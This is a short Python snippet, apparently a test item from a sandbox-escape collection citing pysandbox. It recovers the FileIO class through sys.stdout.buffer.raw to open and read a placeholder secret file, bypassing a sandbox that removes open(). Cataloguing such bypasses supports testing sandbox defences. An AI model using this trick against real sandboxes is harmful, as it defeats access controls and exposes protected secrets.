# technique: type(sys.stdout.buffer.raw) is FileIO
# goal: read-secret
# source: pysandbox, file type taken from sys.stdout
import sys
print(type(sys.stdout.buffer.raw)('@SECRET@').read())
